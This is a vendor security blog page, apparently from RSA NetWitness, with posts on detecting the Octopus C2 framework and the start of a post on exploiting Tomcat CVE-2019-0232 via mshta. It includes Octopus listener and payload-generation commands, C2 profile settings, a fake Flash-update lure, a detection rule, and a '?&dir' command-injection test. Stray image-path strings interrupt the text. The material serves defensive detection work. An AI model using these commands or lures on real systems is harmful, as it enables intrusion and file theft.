Skip navigation
All Places > Products > RSA NetWitness Platform > Blog > Author: Marco Meli

RSA NetWitness Platform

3 Posts authored by: Marco Meli Employee


Octopus was presented at Black Hat London 2019 by Askar. The github page is available here. It is a pre-operation C2  for Red Teamers, based on HTTP/S and written in python. This blog post will show the detection of Octopus (over http) with NetWitness Endpoint and Network.



The attacker sets up an HTTP listener in Octopus and generates an exe payload. He then builds a webpage where he embeds the payload and spreads the webpage through social media and email spam campaigns. The victim opens the webpage from his Windows 10 machine and a pop-up message is immediately shown on the browser stating the current version of Adobe Flash plugin is outdated and needs to be updated to install latest security patches. Thus the victim clicks on the pop-up and installs the update which infects his machine.


Part 1 -  Attack phase

Once Octopus is started this is how the attacker creates a listener and generates the payload, in this case an exe payload (hta and powershell payloads are also an option):



More in detail we have:

listen_http listen_ip port hostname interval page listener_name
generate_unmanaged_exe listener_name output_pathThe attacker uses the popular ngrok tunneling service as a proxy, that is once the victim machine is infected it will communicate with the address which will  in turn create a secure tunnel to the attacker box.


Next the attacker uses a technique known as browser hooking to embed the exe file into a webpage. To achieve this the attacker used the BeEF framework. Explaining this whole process is out of the scope of this post but if you are interested to know more about it you should have a look at the  Autorun Rule Engine BeEF github page.


The victim, using a Windows 10 machine, sees an interesting website about organic food on social medias and clicks on the webpage:



As shown above once the webpage is loaded a message pops up warning toinstall a new version of Adobe Flash plugin which included new security updates. Interestingly the message also warns to ignore the missing certificate signature and that it is a known issue which Adobe is working on.



The victim then clicks on Install missing Plugins and then on Run ignoring the signature warning as advised. Windows Defender is activated and did not detect the exe file.


On the other side of the wall the attacker receives aconnection to the listener.


To interact with the victim the attacker runs the following command:

interact 1

where 1 is number of the session.


The attacker also runs some other commands such as "whoami", "quser", and "report". The latter is a command built-in in Octopus which provides some additional information about the victimmachine. After a little of browsing within the victim machine folders the attacker also finds a file containing potential sensitive information (TopSecret.txt) and downloads it using Octopus download command.


Part 2 - Detection phase with the RSA NetWitness Platform

NetWitness Endpoint

The analyst receives an email alert about a high priority incident generated in the NetWitness Respond module so he starts investigating:



The incident is generated by the NetWitness Endpoint incident rule "High Risk Alerts: NetWitness Endpoint".  However, the rule originates from an App Rule which is part of a bundle content pack available in RSA Live. More information about this bundle is available here.The App Rule condition is the following:

device.type = 'nwendpoint' && category = 'network event' && context = 'network.outgoing' && direction = 'outbound' && context != 'network.nonroutable' && context.src = 'file.unsigned' && dir.path.src = 'appdatalocal','appdataroaming'

and it basically alerts if an unsigned file initiated from the Windows AppData/local or AppData/roaming directory has made an outbound network connection. The alert in turn generates an incident since it is marked with High Risk.


It is apparent from the incident that the file adobe_flash_update.exe made a connection to which is the name of the ngrok server the attacker uses to tunnel the connection to hismachine. The fact that file is unsigned and makes a connection to a website that is not from Adobe makes things extremely suspicious.

Drilling down into the events with NetWitness Endpoint and analyzing them in details the analysts also notices this:



which clearly shows the adobe_flash_update.exe spawned few other processes among which whoami.exe and quser.exe that are Windows utilities typically used by attackers for enumeration.


NetWitness Network

With the information retrieved from the incident, the analyst investigates further with NetWitness Network filtering by hostname:


The analyst notices some potentially malicious HTTP requests under the Service Analysis meta key. While analyzing these meta keys he finds the following event under the "http1.1 without user-agent header" meta value.The above is the initial communication of the victim machine with the Octopus C2. Note that "home.php" in the GET request is the name the attacker used in the command to setup the listener we saw in the beginning. The response to the request contains a powershell payload that intends to setup the communication with the C2 . We can see an AES key and its Initialization Vector used to encrypt the communication. This structure looks very similar to the Ninja C2, described by my colleague Lee Kirkpatrick in another blog post available here.


After the agent/C2 communication has been setup the next request is the "GET /login" where the encrypted communication is established:



each further request is a beacon to the C2 and the analyst notices that the request includes the victim machine name "WINEP1" followed by a 5 characters random name:



The below two requests show the command quser launched from the C2 in the previous steps and its response (the response is contained on a separate GET request):


Note that when the C2 requests something we see "/bills" in the GET request.


The below figure shows the decryption of the above strings using the powershell decryption function seen in the very first request (GET /home.php):


With the same process the analyst was able to see other commands the attacker ran but more importantly was able to see the attacker exfiltrated a file named TopSecret.txt from the infected machine:The beaconing pattern can also be observed with 120 seconds intervals and same size:



It is important to note different destination IP addresses in the above figure. This is because ngrok resolves to different IP addresses in round robin.


Another interesting thing to note is that the URL parameters we saw in the GET requests can be customized via  the Octopus file:



# this is the web listener profile for Octopus C2
# you can customize your profile to handle a specific URLs to communicate with the agent
# TODO : add the ability to customize the request headers

# handling the file downloading
# Ex : /anything
# Ex : /anything.php
file_receiver_url = "/messages"

# handling the report generation
# Ex : /anything
# Ex : /anything.php
report_url = "/calls"

# command sending to agent (store the command will be executed on a host)# leave <hostname> as it with the same format
# Ex : /profile/<hostname>
# Ex : /messages/<hostname>
# Ex : /bills/<hostname>
command_send_url = "/view/<hostname>"

# handling the executed command
# Ex : /anything
# Ex : /anything.php
command_receiver_url = "/bills"

# handling the first connection from the agent
# Ex : /anything
# Ex : /anything.php
first_ping_url = "/login"

# will return in every response as Server header
server_response_header = "nginx"

# will return white page that includes HTA script
mshta_url = "/hta"

# auto kill value after n triesauto_kill = 10


Lastly, while inspecting the network for C2 traffic the analyst  finds the following:



These are HTTP beacons. Requests are sent on port 3000 which is the default port the BeEF framework uses.



Looking at one of the sessions the analyst sees it contains several requests like the one in the above screenshot. In the Referer field we can see the address of the phishing website used by the attackerand the GET request contains the hook to the BeEF C2. The victim will be hooked to the C2 until he closes the browser. The attacker can leverage the hook to performs social engineering attacks like the fake Adobe Flash update among many others.



A client-side attack vector was used to get initial foothold to the victim machine. Once the victim opened the legitimate-looking webpage his browser was "hooked" to the attacker BeEF C2. The attacker had also set an automatic rule that pushed a fake pop-up message suggesting the victim to install Adobe Flash security updates. Once the victim installed the fake Adobe Flash update the incident was created in NetWitness Respond module because of the App Rule discussed earlier.

Threat actors usually use multiple techniques to distribute their malicious payloads. What would have happened if the user had downloaded the file by a different mean on his machine? The same incident would have probably not been generated in NetWitness because that specific app rule relied on the fact that an unsigned file was started from appdatalocal directory in Windows. However, even without the incident the analysts would have identified suspicious network activity with NetWitness Network such as the beaconing to the C2 and also indicators of compromise and suspicious activities in NetWitness Endpoint . For example, the Behavior of Compromise meta key of NetWitness Endpointwould have shown following values:


    queries users logged on local system (1)  related to the whoami command
    gets current username (1)    related to the quser command


The same applies if the attacker had set an HTTPS listener instead of the HTTP one. In this case the analysts would not have been able to see the content of the communication between the C2 and the victim (unless there is an interceptor in place) but they would have noticed the beaconing and the indicators of compromise in NetWitness Endpoint.



Octopus is quite new but showed similarities to other recent C2 frameworks. It is customizable and modular (external modules can be plugged-in) and can run both on HTTP and HTTPS. This article showed that the NetWitness Suite can be of great use when it comes to C2 detection with the combination of both NetWitness Network and Endpoint by providinga very granular level of visibility. In the case of HTTPS an SSL/TLS interceptor would help providing more visibility but without it NetWitness can still identify C2 patterns and indicators of compromise that will help analysts detect potential malicious activities.

What are LotL tactics?

Living-Off-The-Land tactics are those that involve the use of legitimate tools for malicious purposes. This is an old concept but a recent growing trend among threat actors because these types of techniques are very difficult to detect considering that the tools used are whitelisted most of the time. A good list of applications that can be used for these type of tactics can be found at LOLBAS (Windows) and GTFOBins (UNIX).The first part of this article will show how an attacker is able to spot and exploit a recent RCE (Remote Code Execution) vulnerability for Apache Tomcat. We will see how the attacker will eventually be able to get a reverse shell using a legitimate Windows utility mshta.exe. The second part will focus on the detection phase leveraging the RSA NetWitness Platform.



The attacker has targeted an organization we will call examplecorp throughout this blog post. During the enumeration phase, thanks to resources such as Google dorks, and nmap, the attacker has discovered the company runs a Tomcat server which is exposed to the Internet. Upon further research, the attacker finds a vulnerability and successfully exploits it in order to obtain a reverse shell, whichwill serve as the foundation for his malicious campaign against examplecorp


To achieve what has been described in the above scenario the attacker uses different tools and services:


The scenario is simulated on a virtual local environment. Below is a list of the IP addresses used:

  •  --> attacker machine (Kali Linux)
  •    --> victim/examplecorp machine  (Windows host where Tomcat is running)
  •  --> remote server where the attacker stored the malicious payload (shell.hta)


Part 1 - Attack phase

With enumeration tools such as nmap, gobuster, etc.,the attacker discovers that the Tomcat server is on version 9.0.17, it is running on Windows and it serves a legacy application through a CGI Servlet at the following address:


Hello World!

In our example the application will be as simple as "Hello, World!" but will be something else in reality.


Upon further research the attacker discovers a vulnerability (CVE-2019-0232) in the CGI Servlet component of Tomcat prior to version 9.0.18. A detailed description of the vulnerability can be found here at the following links:


With a simple test the attacker can verify the vulnerability. Just by adding ?&dir at the end of the URL the attacker can see the output of the dir command on the affected Windows server Tomcat is running on.

root@kali:~# curl ""
Hello, World!
